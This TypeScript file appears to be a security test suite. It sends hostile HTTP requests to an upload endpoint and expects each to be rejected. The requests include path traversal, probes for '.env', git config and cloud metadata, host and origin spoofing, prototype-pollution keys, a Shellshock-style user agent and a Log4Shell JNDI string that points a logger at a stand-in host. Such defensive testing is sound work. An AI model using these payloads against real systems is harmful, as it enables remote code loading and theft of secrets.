import { type Attack, raw, rightful, toLinks } from './attack.ts';

// Methods, paths, queries, hosts, origins and other headers of requests to the upload links.

const empty = Buffer.alloc(0);
const overrides = [
  'x-http-method-override',
  'x-http-method',
  'x-method-override',
  '_method',
  'x-original-method',
];
const elsewhere = [
  'x-original-url',
  'x-rewrite-url',
  'x-forwarded-path',
  'x-forwarded-prefix',
  'x-envoy-original-path',
];
const otherHosts = [
  'x-forwarded-host',
  'x-host',
  'x-forwarded-server',
  'x-original-host',
  'forwarded',
  'x-http-host-override',
];

const methods = [
  'PUT',
  'DELETE',
  'PATCH',
  'HEAD',
  'OPTIONS',
  'TRACE',
  'PROPFIND',
  'COPY',
  'MOVE',
  'LOCK',
  'PURGE',
  'QUERY',
  'LINK',
  'SEARCH',
];
const noMethods = ['FOO', 'get', 'Post', 'POST2', 'P\0ST', '', '\x16\x03\x01', 'GETPOST', 'DEBUG'];

const paths = [
  '/admin',
  '//',
  '//evil.example',
  '/index.html',
  '/.env',
  '/.git/config',
  '/../',
  '/..',
  '/./',
  '/%2e%2e/',
  '/%2e',
  '/..;/',
  '/\\..\\',
  '/%5c',
  '/%2f',
  '/%00',
  '/%0d%0ax-evil:1',
  '/%ff',
  '/?/../',
  '/a/..',
  '/a/../',
  '/*',
  '/{proxy+}',
  '/2018-06-01/runtime/invocation/next',
  '/latest/meta-data/',
  '/uploads/',
  '/-',
  '/<script>alert(1)</script>',
  `/${'a'.repeat(8000)}`,
];
const isRoot = (path: string) => path === '/?/../';

const keysOf: readonly [query: string, answers: string, unsigned?: string][] = [
  ['key=', '400'],
  ['key', '400'],
  ['key=..', '400'],
  ['key=/', '400'],
  ['key=uploads/', '400'],
  ['key=uploads/../thumbnails/a.jpg', '400'],
  ['key=uploads/./a.jpg', '400'],
  ['key=uploads//a.jpg', '400'],
  ['key=/uploads/a.jpg', '400'],
  ['key=uploads/a.jpg/', '400'],
  ['key=uploads%2f..%2fa.jpg', '400'],
  ['key=thumbnails/a.jpg/small.jpeg', '400'],
  ['key=outcomes/uploads/a.jpg.json', '400'],
  ['key=s3://other/uploads/a.jpg', '400'],
  ['key=uploads/a%00.jpg', '400'],
  ['key=uploads/a%0d%0aset-cookie:%20a=b', '400'],
  ['key=uploads/a%1b%5b2J', '400'],
  ['key=uploads/a%C2%85.jpg', '400'],
  [`key=uploads/${'a'.repeat(1100)}`, '400'],
  [`key=uploads/${'%C3%A4'.repeat(520)}`, '400'],
  ['key=uploads/a.jpg&key=uploads/b.jpg', '400'],
  ['key=uploads/a.jpg&key=', '400'],
  ['key=%', '403', '400'],
  ['key=uploads/%zz.jpg', '403', '404'],
  ['key=uploads/%ff%fe.jpg', '404'],
  ['key=uploads/%ed%a0%80.jpg', '404'],
  ['key=uploads/00000000-0000-4000-8000-000000000000/photo.jpg', '404'],
  ['key=uploads/%25%32%65%25%32%65%2fa.jpg', '404'],
  ['key=uploads/<script>alert(1)<script>', '404'],
  ['key=uploads/a.jpg?versionId=null', '404'],
  ['key=uploads/*', '404'],
  ['KEY=uploads/a.jpg', '405'],
  ['key[]=uploads/a.jpg', '405'],
  ['key%00=uploads/a.jpg', '405'],
  ['__proto__=uploads/a.jpg', '405'],
  ['constructor=1&toString=2&__proto__=3', '405'],
  ['&&&&', '405'],
  ['=', '405'],
  ['X-Amz-Signature=0', '403', '405'],
  [Array.from({ length: 1500 }, (_, at) => `k${at}=`).join('&'), '405'],
  [`${'&'.repeat(9000)}key=uploads/a.jpg`, '404'],
];

const withHeader = (ids: string, name: string, value: string, answers = '201', open = answers): Attack => {
  const wire = rightful();
  const shown = value.length > 50 ? `${value.length} bytes` : JSON.stringify(value);
  return toLinks(
    ids,
    `the header ${name}: ${shown}`,
    { headers: [...wire.headers, [name, value]] },
    answers,
    { open },
  );
};

const many = (count: number): [string, string][] => Array.from({ length: count }, (_, at) => [`h${at}`, '']);

export const heads: Attack[] = [
  ...methods.map((method) =>
    toLinks('P5', `the method ${method}`, { method, ...(method === 'HEAD' && { body: empty }) }, '405'),
  ),
  ...noMethods.map((method) =>
    raw('P5', `the method ${JSON.stringify(method)}`, `${method} / HTTP/1.1\r\nhost: {host}\r\n\r\n`, '400'),
  ),
  toLinks('P5', 'GET of nothing', { method: 'GET', body: empty }, '405'),
  toLinks(
    'P5',
    'GET with the body of a POST',
    { method: 'GET', headers: [...rightful().headers, ['content-length', `${rightful().body.length}`]] },
    '405',
  ),
  raw('P5', 'CONNECT to another host', 'CONNECT evil.example:443 HTTP/1.1\r\nhost: {host}\r\n\r\n', '405'),
  ...overrides.flatMap((name) => ['DELETE', 'GET'].map((method) => withHeader('P6', name, method))),
  ...['_method=DELETE', 'method=PUT', 'X-HTTP-Method-Override=PUT', 'key=uploads/a.jpg', 'a=b&a=c'].map(
    (query) => toLinks('P6', `a POST with the query ${query}`, { target: `/?${query}` }, '201'),
  ),
  ...paths.map((target) =>
    toLinks(
      'P1 P5',
      `the path ${JSON.stringify(target).slice(0, 50)}`,
      { target },
      isRoot(target) ? '201' : '404',
    ),
  ),
  ...['/\xff', '/\xe4'].map((target) =>
    toLinks('P1 P5', `the path ${JSON.stringify(target)}`, { target }, '400'),
  ),
  ...elsewhere.map((name) => withHeader('P6', name, '/admin')),
  ...keysOf.map(([query, answers, open = answers]) =>
    toLinks(
      'P1 P10',
      `GET /?${query.slice(0, 60)}`,
      { method: 'GET', target: `/?${query}`, headers: [], body: empty },
      answers,
      { open },
    ),
  ),
  ...[
    'evil.example',
    '127.0.0.1',
    '127.0.0.1:1',
    '',
    '127.0.0.1:80@evil.example',
    'localhost.evil.example',
    '[::1]:80',
    '\xff',
  ].map((host) =>
    toLinks(
      'P7',
      `the host ${JSON.stringify(host)}`,
      { headers: [['host', host], ...rightful().headers] },
      '403',
    ),
  ),
  ...otherHosts.map((name) =>
    withHeader('P7', name, name === 'forwarded' ? 'host=evil.example;proto=https' : 'evil.example'),
  ),
  ...[
    'https://evil.example',
    'null',
    'file://',
    'https://photos.example.evil',
    '*',
    'http://127.0.0.1:1',
  ].map((origin) => withHeader('P7', 'origin', origin)),
  ...['__proto__', 'constructor', 'tostring', 'then', 'hasownproperty'].map((name) =>
    withHeader('P11', name, 'x'),
  ),
  ...[
    'accept: text/html',
    'accept-encoding: gzip',
    'range: bytes=0-1',
    'if-match: "a"',
    'if-none-match: *',
    'te: trailers',
    'via: 1.1 evil',
  ].map((line) => {
    const [name = '', value = ''] = line.split(': ');
    return withHeader('P11', name, value);
  }),
  withHeader('P11', 'x-amzn-trace-id', 'Root=<script>;Sampled=9'),
  withHeader('P11', 'x-forwarded-for', '127.0.0.1, <script>alert(1)</script>'),
  withHeader('P11', 'user-agent', '() { :; }; /bin/true'),
  withHeader('P11', 'user-agent', '$' + '{jndi:ldap://evil.example/a}'),
  withHeader('P11', 'cookie', `a=${'b'.repeat(4000)}`),
  withHeader('P11', 'x-bytes', '\x80\xff\xe4'),
  withHeader('P11', 'x-tabs', '\ta\t'),
  withHeader('P11', 'upgrade', 'websocket'),
  withHeader('P11', 'upgrade', 'h2c'),
  withHeader('P11', 'expect', '100-continue'),
  withHeader('P11', 'x-amz-security-token', 'x', '403', '201'),
  withHeader('P11', 'x-amz-anything', 'x', '403', '201'),
  withHeader('P11', 'x-large', 'x'.repeat(12_000)),
  withHeader('P11', 'x-too-large', 'x'.repeat(20_000), '431'),
  toLinks('P11', 'four hundred headers', { headers: [...rightful().headers, ...many(400)] }, '201'),
  toLinks('P11', 'three thousand headers', { headers: [...rightful().headers, ...many(3000)] }, '431'),
];
